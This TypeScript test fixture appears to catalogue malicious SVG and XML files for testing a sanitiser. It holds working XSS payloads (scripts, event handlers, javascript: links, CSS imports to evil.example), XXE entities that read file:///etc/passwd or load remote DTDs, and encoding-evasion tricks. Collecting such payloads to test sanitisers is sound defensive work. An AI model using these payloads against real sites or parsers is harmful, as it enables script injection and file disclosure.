/** A drawing with something in it. */
function svg(content: string, more = ''): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="40"${more}>${content}<rect width="8" height="4"/></svg>`
}

const XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'
const EVIL = 'https://evil.example/'
const DATA_SVG = `data:image/svg+xml;base64,${Buffer.from(svg('<script>alert(1)</script>', ' id="x" onload="alert(1)"')).toString('base64')}`
const html = (content: string) =>
  svg(`<foreignObject width="8" height="4"><div ${XHTML}>${content}</div></foreignObject>`)
const bare = (content: string) => svg(content, ' xmlns:h="http://www.w3.org/1999/xhtml"')
const styled = (css: string) => svg(`<style>${css}</style>`)
const declared = (encoding: string, bytes: Buffer) =>
  Buffer.concat([Buffer.from(`<?xml version="1.0" encoding="${encoding}"?>`, 'latin1'), bytes])
const utf16 = (text: string, mark: string) => Buffer.from(mark + text, 'utf16le')
const SCRIPT = svg('<script>alert(1)</script>')

/**
 * What is publicly known of attacks by XML and SVG: OWASP's cheat sheets, the HTML5 Security Cheatsheet (html5sec.org),
 * the test lists of sanitisers, and papers on SVG (Heiderich and others, "Crouching Tiger - Hidden Payload", 2011).
 * By family and name -> the file.
 */
export const SVG_TRICKS: Readonly<Record<string, Readonly<Record<string, string | Buffer>>>> = {
  scripts: {
    plain: SCRIPT,
    'by address': svg(`<script href="${EVIL}x.js"/>`),
    'by data address': svg('<script xlink:href="data:text/javascript,alert(1)"/>'),
    'with a prefix': svg('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>'),
    'with a prefix that has a dot': svg(
      '<a.b:script xmlns:a.b="http://www.w3.org/2000/svg">alert(1)</a.b:script>',
    ),
    'with a prefix beyond ASCII': svg('<é:script xmlns:é="http://www.w3.org/2000/svg">alert(1)</é:script>'),
    'with a prefix of hyphens': svg(
      '<a-b_1:script xmlns:a-b_1="http://www.w3.org/2000/svg">alert(1)</a-b_1:script>',
    ),
    'the whole file with a prefix':
      '<s.v:svg xmlns:s.v="http://www.w3.org/2000/svg" width="8" height="4"><s.v:script>alert(1)</s.v:script></s.v:svg>',
    'in another default namespace': svg(`<g><script ${XHTML}>alert(1)</script></g>`),
    'a namespace by entities': svg('<x:script xmlns:x="http&#58;//www.w3.org/2000/svg">alert(1)</x:script>'),
    'in CDATA': svg('<script><![CDATA[alert(1)]]></script>'),
    'in references': svg('<script>&#97;lert&#40;1)</script>'),
    'in a definition': svg('<defs><symbol id="a"><script>alert(1)</script></symbol></defs><use href="#a"/>'),
    'in a title': svg('<title><script>alert(1)</script></title>'),
    'in metadata': svg('<metadata><script>alert(1)</script></metadata>'),
    'in an unknown element': svg('<unknown><script>alert(1)</script></unknown>'),
    'in notes of a drawing program': svg(
      '<i:x xmlns:i="http://www.inkscape.org/namespaces/inkscape"><script>alert(1)</script></i:x>',
    ),
    'in a style': svg('<style><script>alert(1)</script></style>'),
    'in a switch': svg('<switch><script requiredExtensions="">alert(1)</script><g/></switch>'),
    'in capitals': svg('<SCRIPT>alert(1)</SCRIPT>'),
    'of SVG Tiny': svg(
      '<handler type="application/ecmascript" xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>',
    ),
    'of XML Events': svg(
      '<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="javascript:alert(1)"/>',
    ),
    'behind a comment': svg('<!-- <g> --><script>alert(1)</script><!-- </g> -->'),
    'of a module': svg(`<script type="module">import "${EVIL}x.js"</script>`),
  },
  handlers: {
    'on load': svg('', ' onload="alert(1)"'),
    'on load, in capitals': svg('', ' onLoad="alert(1)" ONLOAD="alert(1)"'),
    'with white space': svg('', '\n\tonload\n=\n"alert(1)"'),
    'in references': svg('', ' onload="&#97;lert&#x28;1)"'),
    'of a picture': svg('<image href="data:image/png;base64,AAAA" width="8" height="4" onerror="alert(1)"/>'),
    'of the focus': svg('<a href="#" tabindex="0" autofocus="" onfocus="alert(1)"><text>x</text></a>'),
    'of an animation': svg('<animate attributeName="x" dur="1s" onbegin="alert(1)"/>'),
    'with a namespace': svg(
      '',
      ' xlink:onload="alert(1)" xmlns:s="http://www.w3.org/2000/svg" s:onload="alert(1)"',
    ),
    'of an inner drawing': svg('<svg onload="alert(1)"/>'),
    'of a shape': svg('<rect width="80" height="40" onclick="alert(1)" onmouseover="alert(1)"/>'),
    'of a style': svg('<style onload="alert(1)">rect{fill:red}</style>'),
    'of what is left out': svg('<metadata onload="alert(1)"/><font onload="alert(1)"/>'),
  },
  addresses: {
    'a link': svg('<a href="javascript:alert(1)"><rect width="80" height="40"/></a>'),
    'a link with white space': svg(
      '<a xlink:href=" java&#9;script&#10;:alert(1)"><rect width="80" height="40"/></a>',
    ),
    'a link in capitals': svg('<a href="JaVaScRiPt:alert(1)"><rect width="80" height="40"/></a>'),
    'a link to data': svg(
      '<a href="data:text/html,&lt;script>alert(1)&lt;/script>"><rect width="80" height="40"/></a>',
    ),
    'a link elsewhere': svg(
      `<a href="${EVIL}" ping="${EVIL}ping" target="_top"><rect width="80" height="40"/></a>`,
    ),
    'a link that is animated': svg(
      '<a><animate attributeName="href" values="javascript:alert(1)"/><rect width="80" height="40"/></a>',
    ),
    'a link that is set': svg(
      '<a id="a" href="#"><set attributeName="xlink:href" to="javascript:alert(1)"/><rect width="80" height="40"/></a>',
    ),
    'an animation of another element': svg(
      `<image id="i" width="8" height="4"/><animate href="#i" attributeName="href" to="${EVIL}x.png" dur="1s" fill="freeze"/>`,
    ),
    'use of data': svg(`<use href="${DATA_SVG}#x"/>`),
    'use of another host': svg(`<use href="${EVIL}x.svg#a"/>`),
    'use of another file': svg('<use xlink:href="other.svg#a"/>'),
    'use in references': svg('<use href="&#104;ttps://evil.example/x.svg#a"/>'),
    'a picture of another host': svg(`<image href="${EVIL}x.png" width="8" height="4"/>`),
    'a picture, any scheme': svg('<image xlink:href="//evil.example/x.png" width="8" height="4"/>'),
    'a picture with backslashes': svg(String.raw`<image href="\\evil.example\x.png" width="8" height="4"/>`),
    'a picture of the machine': svg('<image href="file:///etc/passwd" width="8" height="4"/>'),
    'a picture that is a drawing': svg(`<image href="${DATA_SVG}" width="8" height="4"/>`),
    'a picture that says it is a PNG': svg(
      '<image href="data:image/png,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22/>" width="8" height="4"/>',
    ),
    'a picture that is text': svg(
      `<image href="data:text/html;base64,${Buffer.from('<script>alert(1)</script>').toString('base64')}" width="8" height="4"/>`,
    ),
    'two addresses': svg(`<image href="" xlink:href="${EVIL}x.png" width="8" height="4"/>`),
    'a picture of a filter': svg(
      `<filter id="f"><feImage href="${EVIL}x.png"/></filter><rect filter="url(#f)" width="8" height="4"/>`,
    ),
    'a gradient elsewhere': svg(
      `<linearGradient id="g" xlink:href="${EVIL}x.svg#g"/><rect fill="url(#g)" width="8" height="4"/>`,
    ),
    'a pattern elsewhere': svg(
      `<pattern id="p" href="${EVIL}x.svg#p"/><rect fill="url(#p)" width="8" height="4"/>`,
    ),
    'a path elsewhere': svg(`<text><textPath href="${EVIL}x.svg#p">x</textPath></text>`),
    'text elsewhere': svg(`<text><tref xlink:href="${EVIL}x.svg#t"/></text>`),
    'a motion path elsewhere': svg(
      `<rect width="8" height="4"><animateMotion dur="1s"><mpath href="${EVIL}x.svg#p"/></animateMotion></rect>`,
    ),
    'something thrown away': svg('<discard begin="0s" href="#x"/>'),
    'a base': svg('<image href="x.png" width="8" height="4"/>', ` xml:base="${EVIL}"`),
    'a base with a part': svg('<use href="#a"/>', ` xml:base="${EVIL}x.svg"`),
    'a cursor': svg(
      `<cursor id="c" xlink:href="${EVIL}x.png"/><rect cursor="url(${EVIL}x.png), auto" width="80" height="40"/>`,
    ),
    'a colour profile': svg(`<color-profile name="c" xlink:href="${EVIL}x.icc"/>`),
    'a font': svg(
      `<font-face font-family="f"><font-face-src><font-face-uri xlink:href="${EVIL}x.svg#f"/></font-face-src></font-face><text font-family="f">x</text>`,
    ),
    'a glyph': svg(`<text><altGlyph xlink:href="${EVIL}x.svg#g">x</altGlyph></text>`),
    'a fill': svg(`<rect fill="url(${EVIL}x.svg#a)" width="8" height="4"/>`),
    'a fill in quotes': svg(`<rect fill="url( '${EVIL}x.svg#a' )" width="8" height="4"/>`),
    'a fill with an escape': svg(
      String.raw`<rect fill="\75rl(https://evil.example/x.svg#a)" width="8" height="4"/>`,
    ),
    'a mask': svg(`<rect mask="url(${EVIL}x.svg#a)" width="8" height="4"/>`),
    'a filter': svg(`<rect filter="url(${EVIL}x.svg#a)" width="8" height="4"/>`),
    'a marker of data': svg(`<path marker-end="url(${DATA_SVG}#x)" d="M0 0h8"/>`),
  },
  styles: {
    import: styled(`@import "${EVIL}x.css";`),
    'import by url': styled(`@import url(${EVIL}x.css) layer(a) supports(display:block) screen;`),
    'import with an escape': styled(String.raw`@\69mport "https://evil.example/x.css";`),
    'import behind a character set': styled(`@charset "utf-8"; @import "${EVIL}x.css";`),
    'import behind a comment': styled(`/**/<!-- @import "${EVIL}x.css"; -->`.replaceAll('<', '&lt;')),
    'import in CDATA': styled(`<![CDATA[@import "${EVIL}x.css";]]>`),
    'import in pieces': styled(`@imp<!-- -->ort "${EVIL}x.css";`),
    'import in references': styled(`&#64;import "${EVIL}x.css";`),
    'a font': styled(`@font-face{font-family:x;src:url(${EVIL}x.woff2)} text{font-family:x}`),
    'a background': styled(`svg{background:url(${EVIL}x.png)}`),
    'a background with an escape': styled(String.raw`svg{background:\75rl(https://evil.example/x.png)}`),
    'a background with a long escape': styled(
      String.raw`svg{background:u\000072 l("https://evil.example/x.png")}`,
    ),
    'a set of pictures': styled(`svg{background-image:image-set("${EVIL}x.png" 1x)}`),
    'a set of pictures, older': styled(`svg{background-image:-webkit-image-set(url(${EVIL}x.png) 1x)}`),
    'src()': styled(`svg{background-image:src("${EVIL}x.png")}`),
    'a cross-fade': styled(
      `svg{background-image:-webkit-cross-fade(url(${EVIL}x.png),url(${EVIL}y.png),50%)}`,
    ),
    'a variable': styled(`svg{--x:url(${EVIL}x.png);background:var(--x)}`),
    'a variable by parts': styled(`svg{--x:"${EVIL}x.png";background-image:image-set(var(--x) 1x)}`),
    'an attribute': styled('svg{background-image:image-set(attr(data-x) 1x)}'),
    'a mask': styled(`rect{-webkit-mask-image:url(${EVIL}x.svg);mask:url(${EVIL}x.svg#m)}`),
    'generated content': styled(`text::before{content:url(${EVIL}x.png)}`),
    'a cursor': styled(`*{cursor:url(${EVIL}x.cur),auto}`),
    'a border': styled(`svg{border:5px solid;border-image:url(${EVIL}x.png) 1}`),
    'a shape': styled(`rect{shape-outside:url(${EVIL}x.png);offset-path:url(${EVIL}x.svg#p)}`),
    'a condition': styled(`@media screen{@import "${EVIL}x.css"; svg{background:url(${EVIL}x.png)}}`),
    'a support condition': styled(`@supports (display:block){svg{background:url(${EVIL}x.png)}}`),
    'a document condition': styled(`@-moz-document url(${EVIL}){svg{fill:red}}`),
    'a nested rule': styled(`svg{&amp; rect{background:url(${EVIL}x.png)}}`),
    'a string that does not end': styled(`svg{font-family:"x\n;background:url(${EVIL}x.png)}`),
    'a comment that does not end': styled(`svg{fill:red}/* x`),
    'an address with a line end': styled(`svg{background:url(\n"${EVIL}x.png"\n)}`),
    'a bad address': styled(`svg{background:url(${EVIL}x y.png)}`),
    'an attribute of style': svg(
      `<rect style="fill:red;background:url(${EVIL}x.png)" width="8" height="4"/>`,
    ),
    'an attribute of style, in references': svg(
      '<rect style="filter:&#117;rl&#40;https://evil.example/x.svg#f)" width="8" height="4"/>',
    ),
    'old scripts': styled('svg{width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x.xml#x)}'),
    'an animation': styled('@keyframes k{to{x:9px}} rect{animation:k 1s}'),
    'an end of the style': styled('svg{font-family:"&lt;/style>&lt;script>alert(1)&lt;/script>"}'),
    'an end of CDATA': styled('<![CDATA[svg{font-family:"]]>]]<![CDATA[>"}]]>'),
    'a style sheet of another type': svg(`<style type="text/xsl">@import "${EVIL}x.css";</style>`),
    'a style sheet of HTML': svg(`<style ${XHTML}>@import "${EVIL}x.css";</style>`),
  },
  XML: {
    'a style sheet': `<?xml-stylesheet href="${EVIL}x.css"?>${svg('')}`,
    'a style sheet of XSLT': `<?xml-stylesheet type="text/xsl" href="${EVIL}x.xsl"?>${svg('')}`,
    'a style sheet of data': `<?xml-stylesheet type="text/xml" href="data:text/xml,${encodeURIComponent('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script></xsl:template></xsl:stylesheet>')}"?>${svg('')}`,
    'a style sheet in itself': `<?xml-stylesheet type="text/xml" href="#s"?>${svg('<xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script></xsl:template></xsl:stylesheet>')}`,
    'an instruction inside': svg('<?php echo 1 ?><?import namespace="x" implementation="x.htc"?>'),
    'an entity': `<!DOCTYPE svg [<!ENTITY e "<script xmlns='http://www.w3.org/2000/svg'>alert(1)</script>">]>${svg('&e;')}`,
    'an entity that closes an attribute': `<!DOCTYPE svg [<!ENTITY e "javascript:alert(1)">]>${svg('<a href="&e;"><rect width="80" height="40"/></a>')}`,
    'an entity of the machine': `<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]>${svg('<text y="20">&e;</text>')}`,
    'an entity of another host': `<!DOCTYPE svg [<!ENTITY % p SYSTEM "${EVIL}x.dtd">%p;]>${svg('')}`,
    'a default of an attribute': `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>${svg('')}`,
    'a declaration elsewhere': `<!DOCTYPE svg SYSTEM "${EVIL}x.dtd">${svg('')}`,
    'a declaration of HTML': `<!DOCTYPE html>${svg('')}`,
    'a declaration behind a comment': `<!-- [ --><!DOCTYPE svg [<!ENTITY e "x">]>${svg('')}`,
    'an inclusion': svg(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${EVIL}x.xml"/>`),
    'CDATA that looks like markup': svg('<text><![CDATA[<script>alert(1)</script>]]></text>'),
    'text that looks like markup': svg(
      '<title>&lt;/title>&lt;img src=x onerror=alert(1)></title><desc>&lt;script>alert(1)&lt;/script></desc>',
    ),
    'a comment that ends early': svg('<!--><script>alert(1)</script>-->'),
    'XML 1.1': `<?xml version="1.1"?>${svg('<script>alert(1)</script>')}`,
    'no namespace': '<svg width="8" height="4" onload="alert(1)"/>',
    'the namespace of HTML': `<svg ${XHTML} width="8" height="4"><script>alert(1)</script></svg>`,
    'HTML with a drawing in it': `<html ${XHTML}><body onload="alert(1)">${SCRIPT}</body></html>`,
    'HTML that calls itself a drawing':
      '<script>alert(1)</script><svg xmlns="http://www.w3.org/2000/svg" width="8" height="4"/>',
    'a formula': svg(
      '<m:math xmlns:m="http://www.w3.org/1998/Math/MathML"><m:mtext href="javascript:alert(1)">x</m:mtext></m:math>',
    ),
    'names of JavaScript': svg(
      '<g id="__proto__" class="constructor"/><toString/><__proto__/>',
      ' xmlns:constructor="http://www.w3.org/2000/svg"',
    ),
    'two roots': `${svg('')}${SCRIPT}`,
    'an attribute twice': svg('<a href="#" href="javascript:alert(1)"/>'),
    'a prefix that means another namespace inside': svg(
      '<g xmlns:s="http://example.org/"><g xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></g></g>',
    ),
  },
  encodings: {
    'UTF-16, little end first': utf16(SCRIPT, '\ufeff'),
    'UTF-16, big end first': utf16(SCRIPT, '\ufeff').swap16(),
    'UTF-16, unmarked': utf16(`<?xml version="1.0" encoding="UTF-16LE"?>${SCRIPT}`, ''),
    'UTF-16, only declared': declared('UTF-16', Buffer.from(SCRIPT)),
    'UTF-32': Buffer.from(
      Array.from(`\ufeff${SCRIPT}`).flatMap((char) => [
        ...Buffer.from([char.charCodeAt(0) & 0xff, char.charCodeAt(0) >> 8, 0, 0]),
      ]),
    ),
    'ISO-2022-JP': declared('ISO-2022-JP', Buffer.from(SCRIPT)),
    'ISO-2022-JP with an escape': declared(
      'ISO-2022-JP',
      Buffer.from(SCRIPT.replace('<script', '<\x1b(Bscript'), 'latin1'),
    ),
    'UTF-7': declared('UTF-7', Buffer.from(svg('+ADw-script+AD4-alert(1)+ADw-/script+AD4-'))),
    'windows-1252': declared('windows-1252', Buffer.from(svg('<title>\xe9</title>'), 'latin1')),
    Shift_JIS: declared(
      'Shift_JIS',
      Buffer.concat([Buffer.from(svg('').slice(0, -6)), Buffer.from([0x81]), Buffer.from('"/></svg>')]),
    ),
    'x-user-defined': declared('x-user-defined', Buffer.from(SCRIPT)),
    EBCDIC: Buffer.from([0x4c, 0x6f, 0xa7, 0x94, 0x93, 0x40]),
    'a mark and a script': Buffer.from(`\ufeff${SCRIPT}`),
    overlong: Buffer.from(SCRIPT.replaceAll('<script', '\xc0\xbcscript'), 'latin1'),
    'a zero': svg('<scr\0ipt>alert(1)</scr\0ipt>'),
  },
  XHTML: {
    'a script': html('<script>alert(1)</script>'),
    'a picture': html('<img src="x" onerror="alert(1)"/>'),
    'a refresh': bare(`<h:meta http-equiv="refresh" content="0;url=${EVIL}"/>`),
    'a form': bare(`<h:form action="${EVIL}"><h:input type="image" src="${EVIL}x.png"/></h:form>`),
    'a frame': bare('<h:iframe src="javascript:alert(1)"/>'),
    'a frame with a document': html('<iframe srcdoc="&lt;script>parent.alert(1)&lt;/script>"/>'),
    'an object': bare(`<h:object data="${EVIL}x.svg"/>`),
    'an embedded one': bare(`<h:embed src="${EVIL}x.svg"/>`),
    'a link': bare(`<h:link rel="stylesheet" href="${EVIL}x.css"/>`),
    'a base': bare(`<h:base href="${EVIL}"/><image href="x.png" width="8" height="4"/>`),
    'a film': html(`<video autoplay="" src="${EVIL}x.mp4" poster="${EVIL}x.png" onerror="alert(1)"/>`),
    'a sound': html(`<audio src="${EVIL}x.mp3" preload="auto"/>`),
    'a focus': html('<input autofocus="" onfocus="alert(1)"/>'),
    'a fold': html('<details open="" ontoggle="alert(1)"><summary>x</summary></details>'),
    'without foreignObject': svg(
      `<image ${XHTML} src="x" onerror="alert(1)"/><img ${XHTML} src="${EVIL}x.png"/>`,
    ),
    'behind words that say the same': svg(
      `<switch><foreignObject width="8" height="4"><p ${XHTML} onclick="alert(1)">Hi<script>alert(1)</script></p></foreignObject><text>Hialert(1)</text></switch>`,
    ),
  },
}
